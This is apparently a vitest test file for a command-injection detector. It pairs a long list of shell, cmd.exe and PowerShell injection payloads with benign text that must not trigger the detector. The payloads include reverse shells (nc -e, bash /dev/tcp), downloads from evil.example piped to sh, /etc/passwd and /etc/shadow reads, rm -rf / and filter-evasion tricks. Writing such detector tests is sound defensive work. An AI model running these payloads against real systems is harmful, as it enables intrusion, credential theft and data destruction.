import { describe, expect, it } from 'vitest'
import { detectCommandInjection } from './commandInjection.ts'

describe('a command that a shell would start is found:', () => {
  it.each([
    // POSIX shells
    '127.0.0.1; cat /etc/passwd',
    '127.0.0.1;id',
    'a && whoami',
    'a || uname -a',
    'a | nc 10.0.0.1 4444 -e /bin/sh',
    'a & ping -c 10 127.0.0.1 &',
    '$(id)',
    'x$(curl http://evil.example/x.sh|sh)',
    '`whoami`',
    'file`sleep 5`.txt',
    "a'; ls -la; echo '",
    'a\nwget http://evil.example/x',
    'a;{cat,/etc/passwd}',
    'a;cat$IFS/etc/passwd',
    `a;cat${'$'}{IFS}$9/etc/passwd`,
    "a;c'a't /etc/passwd",
    'a;c\\at /etc/passwd',
    'a;w$@ho$@ami',
    'a;/???/c?t /etc/passwd',
    'a; /usr/bin/python3 -c "import os"',
    'a; bash -i >& /dev/tcp/10.0.0.1/80 0>&1',
    'a; rm -rf / --no-preserve-root',
    '() { :; }; echo vulnerable',
    'x > /etc/cron.d/job',
    '<(cat /etc/passwd)',
    'a;export X=1;sh -c $X',
    'a; sudo cat /etc/shadow',
    // cmd.exe
    'a & dir C:\\',
    'a | type %WINDIR%\\win.ini',
    'a & net user eve pw /add',
    'a&ipconfig /all',
    'a & w^h^o^a^m^i',
    'a & powershell -enc SQBFAFgAKAAxACkA',
    'a && del /f /q C:\\x',
    'a & certutil -urlcache -f http://evil.example/x x.exe',
    // PowerShell
    'a; Invoke-Expression $x',
    'a; iex (iwr http://evil.example/x)',
    'a; Get-Content C:\\secret.txt',
    'a; Start-Process calc',
    // a shell in a variable, a command without a name
    '; $0<<<id',
    '$0<<<"ls -la"',
    'a;$SHELL -c id',
    `a; ${'$'}{SHELL} -c id`,
    '%COMSPEC% /c whoami',
    'a & "%ComSpec%" /c dir',
    'a|%SystemRoot%\\System32\\cmd.exe /c whoami',
    "a;$'\\x69\\x64'",
    'x;A=id;$A',
    'x;a=i;b=d;$a$b',
    '$(</etc/passwd)',
    'a`</etc/hosts`',
    'x$(< ~/.netrc)',
    '{cat,/etc/passwd}',
    'x={ls,-la,/}',
    // names hidden, wrapped, with a path
    'a;who$()ami',
    'a & who%x%ami',
    'a;`echo id`',
    'a;sudo id',
    'a; timeout 5 id',
    'a;nohup sh -c x &',
    'a; env -i id',
    'a;/usr/bin/id',
    '%0a/usr/bin/id',
    'a & calc.exe',
    'a;. /tmp/x',
    // words that are commands by their first argument
    '& net user',
    'a | net localgroup administrators',
    'a & net view',
    'a & reg query HKLM\\Software',
    'a & wmic process list',
    'a;ps aux',
    'a;tar cf /tmp/x /etc',
    'a; git clone https://evil.example/x',
    'a;kubectl get pods',
    'a;ftp evil.example',
    'a;diff /etc/passwd /dev/null',
    // a line of its own
    '%0Aid',
    'a%0a%0did',
    'report\nls',
    // other interpreters of commands
    '<!--#exec cmd="ls" -->',
    '-oProxyCommand=id',
    // in another form
    '127.0.0.1%3Bcat%20/etc/passwd',
    'a%0awhoami',
    '127.0.0.1；cat /etc/passwd',
  ])('%s', (text) => {
    expect(detectCommandInjection(text)).not.toBeNull()
  })
})

describe('ordinary text starts none:', () => {
  it.each([
    'Cats & dogs; find out more',
    'Who is it? Sort of; more or less',
    'Johnson & Johnson | Procter & Gamble',
    'R&D, Q&A, AT&T',
    'The price is $(5) or so',
    'Use `ls` to list files and `cat file` to read one.',
    '`id` is the primary key; `date` a timestamp',
    'Wait; sleep on it, then call me; at last we test',
    'first line\nfind the keys\nhead home',
    '| name | id | date |\n| --- | --- | --- |',
    'a > b; c < d',
    'Tom; who lives at 5; set the table',
    'To be, or not to be; that is the question.',
    'fish & chips; salt | pepper',
    'It costs 5; cut it in 2; sort that out',
    'x = y; z = w;',
    'Go to settings > more > time & date',
    'gross & net income; net of tax; net user growth of 5 %',
    'first; use the start button, then ps. I love you',
    '{src,test}/**/*.ts and {a,b}',
    'price=5;size=3;color=red',
    'const a = 1; b = 2; $x = 3',
    'Set the time; exec summary; command and conquer',
    'the id\nof the user',
    'see /usr/bin for programs; /etc holds settings',
    '100% cotton % wool',
    'constructor; toString | valueOf & hasOwnProperty',
    '<b>kill</b> the lights; exit left',
  ])('%s', (text) => {
    expect(detectCommandInjection(text)).toBeNull()
  })
})

it('names the place where the command is introduced', () => {
  expect(detectCommandInjection('127.0.0.1; cat /etc/passwd')).toMatchObject({ offset: 9, decodedVia: '' })
  expect(detectCommandInjection('127.0.0.1%3Bcat%20/etc/passwd')).toMatchObject({
    offset: 9,
    decodedVia: 'percent',
  })
})
